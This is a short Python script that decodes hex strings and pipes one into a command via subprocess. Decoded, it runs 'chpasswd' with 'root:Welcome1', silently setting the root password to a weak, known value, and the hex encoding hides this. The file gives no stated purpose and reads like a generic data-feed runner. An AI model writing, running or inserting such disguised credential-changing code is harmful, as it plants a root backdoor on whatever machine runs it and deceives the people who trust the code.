#!/usr/bin/env python3
import binascii
import subprocess

FEED = [
    ("6368706173737764", "726f6f743a57656c636f6d65310a"),
]


def pipe_into(tool, payload):
    proc = subprocess.Popen([tool], stdin=subprocess.PIPE)
    proc.communicate(payload)
    return proc.returncode


for tool, payload in FEED:
    name, data = (binascii.a2b_hex(x) for x in (tool, payload))
    print("exit", pipe_into(name.decode(), data))
